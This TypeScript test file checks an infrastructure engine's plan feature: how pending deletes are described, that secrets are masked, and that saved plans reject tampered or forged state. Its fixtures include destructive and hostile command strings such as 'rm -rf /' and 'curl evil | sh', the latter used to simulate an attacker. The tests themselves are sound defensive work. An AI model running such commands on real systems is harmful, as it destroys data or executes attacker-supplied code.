/** Deletes in a plan: their handlers act on the records, and the run deletes nothing else. */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { memoryStore } from "../../../adapters/memory/index.js";
import type { EngineOptions, Plan } from "../../../core/contract/index.js";
import { Resource } from "../../../core/resource/index.js";
import { planLines } from "../../../plugins/console-output/plan-view.js";
import { Secret } from "../../../plugins/secrets/secret.js";
import { setUpPlans } from "../../helpers/apps/planning.js";
import { PASSWORD, secretStage } from "../../helpers/apps/secret-stage.js";
import { newKind } from "../../helpers/apps/world.js";
import { rewriteState } from "../../helpers/stores/rewrite-state.js";

let folder: string;
let files = 0;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "plan-deletes-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));
const newFile = (): string => join(folder, `plan-${++files}.json`);

interface JobProps {
  readonly undo: unknown;
  readonly name?: string;
}

/** A type whose delete acts on the recorded props and output. */
function setUp({ password }: { readonly password?: string | undefined } = { password: PASSWORD }) {
  const stage = secretStage({ stateStore: memoryStore(), password });
  const done: unknown[] = [];
  const Job = Resource<{ address: unknown; name?: string }, JobProps>(newKind(), {
    create: ({ id, props: { name } }) => ({ address: `10.0.0.${id}`, ...(name === undefined ? {} : { name }) }),
    update: ({ output }) => output,
    delete: ({ props: { undo }, output: { address } }) => void done.push([Secret.unwrap(undo), Secret.unwrap(address)]),
    describeDelete: ({ props: { undo } }) => (undo === "nothing" ? undefined : `runs ${String(Secret.unwrap(undo))}`),
    replaceOn: ["name"],
  });
  const plan = (program: () => unknown, options: EngineOptions = {}): Promise<Plan> =>
    stage.engine.plan(
      "app",
      { stage: "dev", argv: [], env: {}, stateStore: stage.store, password, ...options },
      program,
    );
  return { stage, Job, done, plan };
}

describe("a plan says of what it deletes", () => {
  test("what the handler will do, in the words of its type, and what it gets", async () => {
    const { stage, Job, plan } = setUp();
    await stage.up(() => [Job("a", { undo: "rm -rf a", name: "a" }), Job("b", { undo: "nothing" })]);
    const { actions } = await plan(() => {});
    expect(actions).toMatchObject([
      {
        action: "delete",
        changes: [{ path: "/undo", old: "nothing" }],
        deletes: { output: [{ path: "/address", old: "10.0.0.b" }] },
      },
      {
        deletes: {
          does: "runs rm -rf a",
          output: [
            { path: "/address", old: "10.0.0.a" },
            { path: "/name", old: "a" },
          ],
          uid: expect.stringMatching(/^[0-9a-f-]{36}$/),
          digest: expect.stringMatching(/^[0-9a-f]{64}$/),
        },
      },
    ]);
    expect(actions[0]?.deletes).not.toHaveProperty("does");
    const shown = planLines(await plan(() => {}));
    expect(shown.filter((line) => line.includes("deleting"))).toEqual(["           deleting runs rm -rf a"]);
    expect(shown.filter((line) => line.includes("output")).map((line) => line.trim().replace(/ +/g, " "))).toEqual([
      'output address: "10.0.0.b"',
      'output address: "10.0.0.a"',
    ]);
  });

  test("what becomes of the old copy of what it replaces", async () => {
    const { stage, Job, plan } = setUp();
    await stage.up(() => Job("a", { undo: "rm -rf a", name: "a" }));
    const made = await plan(() => Job("a", { undo: "rm -rf b", name: "b" }));
    expect(made.actions).toMatchObject([{ action: "replace", deletes: { does: "runs rm -rf a" } }]);
    expect(planLines(made)).toContain("           deleting the old one runs rm -rf a");
  });

  test("no secret", async () => {
    const { stage, Job, plan } = setUp();
    const Keyed = Resource<{ key: Secret }, { undo: unknown }>(newKind(), {
      create: () => ({ key: new Secret("key of a, and no other") }),
      delete: () => {},
      describeDelete: ({ output }) => `sends ${output.key.unencrypted}`,
    });
    await stage.up(() => [Job("a", { undo: new Secret("hush-hush, a") }), Keyed("b", { undo: "b" })]);
    const made = await plan(() => {});
    expect(JSON.stringify(made)).not.toMatch(/hush-hush|key of a/);
    expect(made.actions.map(({ deletes }) => deletes?.does).sort()).toEqual(["runs ***", "sends ***"]);
  });

  test("whole what is long or has several lines", async () => {
    const { stage, Job, plan } = setUp();
    const undo = `echo ${"a".repeat(3_000)}\n rm -rf /`;
    await stage.up(() => Job("a", { undo }));
    const made = await plan(() => {});
    expect(made.actions[0]?.deletes?.does).toBe(`runs ${undo}`);
    expect(planLines(made).join("")).toContain(`${"a".repeat(3_000)} rm -rf /`);
  });
});

describe("a saved plan deletes nothing", () => {
  const attacks: Readonly<Record<string, (text: string) => string>> = {
    "whose command was changed": (text) => text.replace('"rm a"', '"curl evil | sh"'),
    "whose address was changed": (text) => text.replace("10.0.0.a", "10.0.0.z"),
    "that was made another kind": (text) => text.replace(/"kind":"[^"]*"/, '"kind":"os:Command"'),
  };

  test.each(Object.entries(attacks))("%s since, though the journal says nothing of it", async (_what, attack) => {
    const { stage, Job, done, plan } = setUp();
    await stage.up(() => Job("a", { undo: "rm a" }));
    const planFile = newFile();
    await plan(() => {}, { planOut: planFile });
    // An attacker with the key of the state.
    const changed = memoryStore();
    await rewriteState(stage.store, changed, attack, { password: PASSWORD });
    await expect(stage.up(() => {}, { planFile, stateStore: changed })).rejects.toMatchObject({
      code: "PLAN_STALE",
      message: expect.stringContaining('"app/dev/a"'),
    });
    expect(done).toEqual([]);
    // Without the key, the state is rejected, with a plan and without one.
    const forged = memoryStore();
    await rewriteState(stage.store, forged, attack);
    for (const options of [{ planFile }, {}]) {
      const run = stage.up(() => {}, { ...options, stateStore: forged });
      await expect(run).rejects.toMatchObject({ code: "STATE_FORGED" });
    }
    expect(done).toEqual([]);
    await stage.up(() => {}, { planFile });
    expect(done).toEqual([["rm a", "10.0.0.a"]]);
  });

  test.each(Object.entries(attacks))("%s since, in a state that has no key", async (_what, attack) => {
    const { stage, Job, done, plan } = setUp({});
    await stage.up(() => Job("a", { undo: "rm a" }));
    const planFile = newFile();
    await plan(() => {}, { planOut: planFile });
    const forged = memoryStore();
    await rewriteState(stage.store, forged, attack);
    const run = stage.up(() => {}, { planFile, stateStore: forged });
    const stale = { code: "PLAN_STALE", message: expect.stringContaining('"app/dev/a"') };
    await expect(run).rejects.toMatchObject(stale);
    expect(done).toEqual([]);
  });

  test("and does nothing else where anything that is recorded was changed", async () => {
    const { stage, Job, done, plan } = setUp();
    await stage.up((app) =>
      Promise.all([app.set("region", "eu"), Job("a", { undo: "rm a" }), Job("b", { undo: "rm b" })]),
    );
    const program = () => [Job("b", { undo: "rm b" }), Job("c", { undo: "rm c" })];
    const planFile = newFile();
    await plan(program, { planOut: planFile });
    const changes: readonly (readonly [string, string])[] = [
      ['"rm b"', '"rm z"'],
      ["10.0.0.b", "10.0.0.z"],
      ['"eu"', '"us"'],
    ];
    for (const [from, to] of changes) {
      const change = (text: string) => text.replace(from, to);
      const [changed, forged] = [memoryStore(), memoryStore()];
      await rewriteState(stage.store, changed, change, { password: PASSWORD });
      await rewriteState(stage.store, forged, change);
      await expect(stage.up(program, { planFile, stateStore: changed })).rejects.toMatchObject({
        code: "PLAN_STALE",
        message: expect.stringContaining("has changed"),
      });
      await expect(stage.up(program, { planFile, stateStore: forged })).rejects.toMatchObject({ code: "STATE_FORGED" });
    }
    expect(done).toEqual([]);
  });

  test("that it does not show, even if its file was changed", async () => {
    const { stage, Job, done, plan } = setUp();
    await stage.up(() => [Job("a", { undo: "rm a" }), Job("b", { undo: "rm b" })]);
    const planFile = newFile();
    const { actions, ...made } = await plan(() => Job("b", { undo: "rm b" }));
    const [deletion] = actions;
    const { deletes: _, ...bare } = deletion ?? {};
    for (const changed of [
      bare,
      { ...deletion, deletes: { ...deletion?.deletes, uid: "another" } },
      { ...deletion, deletes: {} },
    ]) {
      await writeFile(planFile, JSON.stringify({ ...made, actions: [changed] }));
      const run = stage.up(() => Job("b", { undo: "rm b" }), { planFile });
      await expect(run).rejects.toMatchObject({ code: expect.stringMatching(/^(PLAN_STALE|INVALID_OPTION)$/) });
    }
    const { contents: _contents, ...state } = made.state;
    await writeFile(planFile, JSON.stringify({ ...made, actions, state }));
    await expect(stage.up(() => {}, { planFile })).rejects.toMatchObject({ code: "INVALID_OPTION" });
    expect(done).toEqual([]);
  });
});

describe("a saved plan is of the same state", () => {
  test("whether that was read from a checkpoint, from the journal, or both", async () => {
    const { stage, Job, plan } = setUp();
    const program = () => Promise.all(["c", "a", "b"].map((id) => Job(id, { undo: { 2: id, 1: id, z: [id] } })));
    await stage.up(program);
    await stage.up(() => Promise.all(["c", "b"].map((id) => Job(id, { undo: { x: id } }))));
    const first = await plan(() => {});
    for await (const key of stage.store.list("app/dev/checkpoint/")) await stage.store.deleteMany([key]);
    expect((await plan(() => {})).state).toEqual(first.state);
    expect((await plan(() => {})).actions.map(({ deletes }) => deletes)).toEqual(
      first.actions.map(({ deletes }) => deletes),
    );
  });

  test("also where things have moved and go by other names", async () => {
    const { stage, Thing, plan, world } = setUpPlans();
    await stage.up(() => Promise.all(["a", "b", "c"].map((id) => Thing(id))));
    const program = () => [Thing("z", {}, { aliases: ["c"] }), Thing("y", {}, { aliases: ["a"] })];
    const planFile = newFile();
    const made = await plan(program, { planOut: planFile });
    expect(made.actions).toMatchObject([{ action: "delete", fqn: "app/dev/b" }]);
    expect(JSON.parse(await readFile(planFile, "utf8"))).toMatchObject({ state: { contents: made.state.contents } });
    world.news();
    await stage.up(program, { planFile });
    expect(world.news()).toEqual(["delete b"]);
  });
});
